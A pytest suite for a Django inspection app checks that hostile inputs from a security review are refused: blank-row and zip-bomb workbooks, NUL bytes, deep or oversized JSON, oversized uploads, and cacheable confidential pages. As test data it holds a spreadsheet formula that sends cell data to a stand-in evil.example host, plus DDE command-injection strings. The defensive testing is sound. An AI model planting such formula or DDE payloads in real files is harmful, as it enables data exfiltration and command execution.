"""Hostile input from the security review (issue 19), each now refused with a readable answer:

10. an .xlsx of a million blank rows without <dimension> held a web worker for 98 s;
12. a unit named ``=HYPERLINK(...)`` became a live formula in the import template;
15. NUL bytes in filters and lookups, impossible dates and a 100k-deep JSON body were 500s, and a
    3 MB JSON body got an HTML 400 instead of the API's error shape;
16. clue pages and the clue API were cacheable;
18. uploads were size-checked only after the whole body had arrived.
"""

import datetime as dt
import io
import json
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.client import FakePayload
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from rest_framework.test import APIClient

from inspections import imports
from inspections.choices import IssueStatus, UnitKind
from inspections.models import Clue, Issue, IssueCategory, Unit
from rectification import services
from rectification.models import Evidence, Progress
from tests.factories import make_assignment, make_clue, make_issue, make_world

from .builders import PDF, blank_rows_xlsx, bomb_entry, raw_zip

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?d="&数据!A1,"点击")'


@pytest.fixture
def w(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return make_world()


def api(person) -> APIClient:
    client = APIClient()
    client.force_authenticate(person)
    return client


def assert_api_error(response, status: int, code: str) -> dict:
    """The API's one error shape, as JSON, whatever refused the request."""
    assert response.status_code == status, response.content[:300]
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    assert body["code"] == code and isinstance(body["detail"], str) and body["detail"]
    return body


# --- 10. the Excel import: blank rows count, reading stops early, the preview has a time limit ----


def import_upload(client, w, data: bytes):
    return client.post(
        reverse("inspections:import-upload"),
        {"round": w.round.pk, "file": SimpleUploadedFile("问题.xlsx", data, content_type=XLSX)},
    )


def test_a_million_blank_rows_without_dimension_are_refused_fast(client, w):
    data = blank_rows_xlsx(imports.HEADERS, 1_000_000)
    assert len(data) < imports.MAX_BYTES  # a small upload, as in the review (151 KB there)
    client.force_login(w.inspector_x)
    start = time.monotonic()
    response = import_upload(client, w, data)
    elapsed = time.monotonic() - start
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [
        "文件的行数（含空行）超过 10000 行，请删除多余的空行，或拆分后分批导入。"
    ]
    assert elapsed < 10, elapsed  # was 98 s
    assert not Issue.objects.exists()


def test_blank_rows_between_data_rows_still_import(client, w):
    book = Workbook()
    sheet = book.active
    sheet.title = imports.DATA_SHEET
    sheet.append(imports.HEADERS)
    category = IssueCategory.objects.get(name="工程建设").name
    sheet.append(["市住建局", category, "违规发放津贴", "事实", "依据", "查阅资料", "个性问题", "否", "2026-03-20"])
    for column, value in enumerate(["市住建局", category, "公车私用"], start=1):
        sheet.cell(row=500, column=column).value = value
    buffer = io.BytesIO()
    book.save(buffer)
    client.force_login(w.inspector_x)
    response = import_upload(client, w, buffer.getvalue())
    assert response.status_code == 200
    assert [row.number for row in response.context["preview"].rows] == [2, 500]


def test_the_preview_gives_up_after_its_time_limit_with_the_reason(client, w, settings):
    settings.IMPORT_PREVIEW_MAX_SECONDS = 0
    client.force_login(w.inspector_x)
    response = import_upload(client, w, blank_rows_xlsx(imports.HEADERS, 5))
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [
        "读取文件超过 0 秒仍未完成，已停止。请删除多余的空行或格式，或拆分后分批导入。"
    ]


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_parsed(client, w):
    container = zipfile.ZipFile(io.BytesIO(blank_rows_xlsx(imports.HEADERS, 1)))
    entries = [{"name": name, "data": container.read(name), "method": 0} for name in container.namelist()]
    bomb = raw_zip([*entries, bomb_entry("xl/sharedStrings.xml", 100)])
    client.force_login(w.inspector_x)
    start = time.monotonic()
    response = import_upload(client, w, bomb)
    assert response.status_code == 400 and time.monotonic() - start < 10
    assert response.context["form"].errors["file"] == ["文件解压后超过 64 MB，不像是填写的导入模板，请检查后重新上传。"]


# --- 12. the import template writes names as text, never as formulas ------------------------


def test_a_unit_named_like_a_formula_stays_text_in_the_template(client, w):
    unit = Unit.objects.create(name=EVIL, code="U-EVIL", kind=UnitKind.DEPARTMENT, office=w.city)
    make_assignment(w.round, unit, w.group_x)
    heading = IssueCategory.objects.create(name="+cmd|' /C calc'!A0")
    IssueCategory.objects.create(name="@SUM(1+1)*cmd|' /C calc'!A0", parent=heading)
    client.force_login(w.inspector_x)
    response = client.get(reverse("inspections:import-template"), {"round": w.round.pk})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    by_value = {cell.value: cell for cell in cells}
    assert by_value[EVIL].data_type == "s"
    assert by_value["@SUM(1+1)*cmd|' /C calc'!A0"].data_type == "s"
    sheets = zipfile.ZipFile(io.BytesIO(response.content))
    assert not any(b"<f>" in sheets.read(name) for name in sheets.namelist() if name.startswith("xl/worksheets/"))


# --- 15. NUL bytes, impossible dates, deep and large JSON -------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/audit/?obj=%00",
        "/search/?q=%00",
        "/lookup/units/?q=%00",
        "/issues/?q=a%00b",
        "/ledgers/issues/?q=%00",
        "/clues/?q%00=x",
    ],
)
def test_nul_in_a_page_or_lookup_parameter_is_a_readable_400(client, w, path):
    client.force_login(w.admin)
    response = client.get(path)
    assert response.status_code == 400
    assert "提交的内容含有不允许的空字符（NUL），未处理。" in response.content.decode()


def test_nul_in_a_posted_form_or_export_filter_is_a_400_and_nothing_is_written(client, w):
    client.force_login(w.supervisor)
    response = client.post("/ledgers/issues/export/", {"q": "\x00"})
    assert response.status_code == 400
    issue = make_issue(w.assignment_x, IssueStatus.RECTIFYING)
    client.force_login(w.liaison_x)
    response = client.post(
        reverse("rectification:progress-create", args=[issue.pk]), {"date": "2026-11-20", "text": "已整改\x00"}
    )
    assert response.status_code == 400 and not Progress.objects.exists()


def test_nul_in_an_api_filter_is_the_json_error_shape(w):
    assert_api_error(api(w.admin).get("/api/v1/issues/", {"q": "\x00"}), 400, "invalid")
    assert_api_error(api(w.admin).get("/api/v1/units/", {"search\x00": "x"}), 400, "invalid")


@pytest.mark.parametrize(
    ("query", "field"), [({"since": "2026-99-99"}, "2026-99-99"), ({"until": "9999-12-31"}, "9999-12-31")]
)
def test_an_impossible_audit_date_is_named_not_a_500(client, w, query, field):
    client.force_login(w.admin)
    for name in ("audit", "audit_export"):
        response = client.get(reverse(name), query)
        assert response.status_code == 400
        assert f"日期“{field}”无效，请按 2026-03-20 的格式填写。" in response.content.decode()


@pytest.fixture
def long_term(w):
    issue = make_issue(w.assignment_x, IssueStatus.LONG_TERM)
    return Issue.objects.get(pk=issue.pk)


def test_a_long_term_progress_dated_9999_12_31_is_a_field_error(client, w, long_term):
    client.force_login(w.liaison_x)
    response = client.post(
        reverse("rectification:progress-create", args=[long_term.pk]), {"date": "9999-12-31", "text": "长期坚持"}
    )
    assert response.status_code == 400
    (message,) = response.context["progress_form"].errors["date"]
    assert message.startswith("进展日期不能晚于 ")
    body = assert_api_error(
        api(w.liaison_x).post(
            "/api/v1/progress/", {"issue": long_term.pk, "date": "9999-12-31", "text": "长期坚持"}, format="json"
        ),
        400,
        "invalid",
    )
    assert body["errors"]["date"] == [message]
    assert not Progress.objects.exists()
    long_term.refresh_from_db()
    assert long_term.next_progress_due is None
    # A date within the bound still works and moves the next report date.
    progress = services.progress_create(actor=w.liaison_x, issue=long_term, date=dt.date(2026, 11, 20), text="进展")
    assert Progress.objects.get() == progress


def test_a_100k_deep_json_body_is_refused_in_the_error_shape(w):
    deep = "[" * 100_000 + "]" * 100_000
    start = time.monotonic()
    response = api(w.inspector_x).post("/api/v1/issues/", deep, content_type="application/json")
    body = assert_api_error(response, 400, "parse_error")
    assert body["detail"] == "JSON 嵌套层数超过 32 层，未处理。"
    assert time.monotonic() - start < 5
    shallow_enough = {"title": [[[["x"]]]]}
    assert api(w.inspector_x).post("/api/v1/issues/", shallow_enough, format="json").status_code == 400
    too_deep = json.dumps({"title": json.loads("[" * 40 + "]" * 40)})
    response = api(w.inspector_x).post("/api/v1/issues/", too_deep, content_type="application/json")
    assert_api_error(response, 400, "parse_error")
    assert not Issue.objects.exists()


def test_a_3_mb_json_body_gets_the_json_error_shape(w):
    big = json.dumps({"title": "问题", "facts": "x" * (3 * 1024 * 1024)})
    # Signed in, and on the one endpoint that reads a body before anyone signs in.
    for client, path in ((api(w.inspector_x), "/api/v1/issues/"), (APIClient(), "/api/v1/auth/token/")):
        response = client.post(path, big, content_type="application/json")
        body = assert_api_error(response, 413, "request_too_large")
        assert body["detail"] == "请求内容超过 1024 KB，未处理。"
    assert not Issue.objects.exists()


def test_a_json_body_over_the_upload_memory_limit_is_the_json_error_shape_too(w, settings):
    """Past the middleware (a larger JSON limit), DRF reads the body through request.body, which
    raises RequestDataTooBig above DATA_UPLOAD_MAX_MEMORY_SIZE: still 413 in the error shape."""
    settings.API_JSON_MAX_BYTES = 10 * 1024 * 1024
    big = json.dumps({"title": "问题", "facts": "x" * (3 * 1024 * 1024)})
    response = api(w.inspector_x).post("/api/v1/issues/", big, content_type="application/json")
    assert_api_error(response, 413, "request_too_large")


def test_a_deep_json_body_to_a_view_with_its_own_parsers_is_the_json_error_shape(w):
    deep = "[" * 100_000 + "]" * 100_000
    response = APIClient().post("/api/v1/auth/token/", deep, content_type="application/json")
    body = assert_api_error(response, 400, "parse_error")
    assert body["detail"] == "JSON 嵌套层数超过 32 层，未处理。"


def test_a_3_mb_form_body_is_refused_readably_not_with_a_bare_400(client, w):
    client.force_login(w.inspector_x)
    response = client.post(reverse("inspections:issue-create"), {"facts": "x" * (3 * 1024 * 1024)})
    assert response.status_code == 413
    assert "提交的表单内容过大，未处理。" in response.content.decode()
    response = APIClient().post("/api/v1/auth/token/", {"username": "x" * (3 * 1024 * 1024)}, format="multipart")
    assert_api_error(response, 413, "request_too_large")
    broken = client.generic("POST", reverse("inspections:issue-create"), b"--x\r\n", "multipart/form-data; boundary=")
    assert broken.status_code == 400 and "提交的表单内容无法解析，未处理。" in broken.content.decode()


# --- 16. confidential responses are never stored by a cache ----------------------------------


def test_clue_pages_and_the_clue_api_say_no_store(client, w):
    clue = make_clue(w.assignment_x, w.inspector_x)
    client.force_login(w.group_leader_x)
    pages = [
        reverse("inspections:clue-list"),
        reverse("inspections:clue-detail", args=[clue.pk]),
        reverse("inspections:clue-create"),
        reverse("inspections:clue-transfer", args=[clue.pk]),
        reverse("inspections:clue-outcome", args=[clue.pk]),
        reverse("inspections:assignment-detail", args=[w.assignment_x.pk]),
        reverse("inspections:search") + "?q=XS",
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"], page
    for path in ("/api/v1/clues/", f"/api/v1/clues/{clue.pk}/"):
        response = api(w.group_leader_x).get(path)
        assert response.status_code == 200 and "no-store" in response["Cache-Control"], path
    # A clue read is still logged, and a refused read is not cacheable either.
    assert Clue.objects.filter(reads__isnull=False).exists()
    response = api(w.liaison_x).get(f"/api/v1/clues/{clue.pk}/")
    assert response.status_code == 404 and "no-store" in response["Cache-Control"]


# --- 18. a body over the limit is refused before it is read ----------------------------------


def test_a_body_over_the_limit_is_refused_with_413_before_it_is_read(client, w, settings):
    settings.REQUEST_MAX_BYTES = 1024 * 1024
    issue = make_issue(w.assignment_x, IssueStatus.RECTIFYING)
    client.force_login(w.liaison_x)
    url = reverse("rectification:progress-create", args=[issue.pk])
    payload = FakePayload(b"x" * 16)
    response = client.generic(
        "POST",
        url,
        CONTENT_TYPE="multipart/form-data; boundary=BoUnDaRy",
        CONTENT_LENGTH=str(50 * 1024 * 1024 * 1024),  # declares 50 GB, sends nothing of it
        **{"wsgi.input": payload},
    )
    assert response.status_code == 413
    assert "提交的内容超过 1 MB，未处理。请减小文件后重试。" in response.content.decode()
    assert not payload.read_started

    def big():
        return SimpleUploadedFile("佐证.pdf", PDF[:-6] + b"\x00" * (2 * 1024 * 1024) + b"%%EOF\n")

    response = client.post(url, {"date": "2026-11-20", "text": "已整改", "files": [big()]})
    assert response.status_code == 413
    body = {"issue": issue.pk, "date": "2026-11-20", "text": "x", "files": [big()]}
    response = api(w.liaison_x).post("/api/v1/progress/", body, format="multipart")
    body = assert_api_error(response, 413, "request_too_large")
    assert body["detail"] == "提交的内容超过 1 MB，未处理。请减小文件后重试。"
    assert not Progress.objects.exists() and not Evidence.objects.exists()


def test_upload_limits_are_set():
    from django.conf import settings

    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE == 2 * 1024 * 1024
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE == 2 * 1024 * 1024
    assert settings.REQUEST_MAX_BYTES == 100 * 1024 * 1024
    assert "config.middleware.RequestLimitsMiddleware" in settings.MIDDLEWARE


def test_transfer_letters_clue_ledgers_and_the_audit_trail_say_no_store(client, w):
    """Finding 16 for the documents, ledgers and audit screens: none of them may be cached."""
    clue = make_clue(w.assignment_x, w.inspector_x)
    client.force_login(w.admin)
    letter = client.get(reverse("documents:clue_transfer_letter", args=[clue.pk]))
    assert letter.status_code == 200 and letter["Content-Type"].startswith("application/vnd.openxmlformats")
    ledger = client.post(reverse("ledgers:export", args=["clues"]), {})
    assert ledger.status_code == 200 and ledger["Content-Type"].startswith("application/vnd.openxmlformats")
    for response in (letter, ledger, client.get("/audit/"), client.get("/audit/export/")):
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
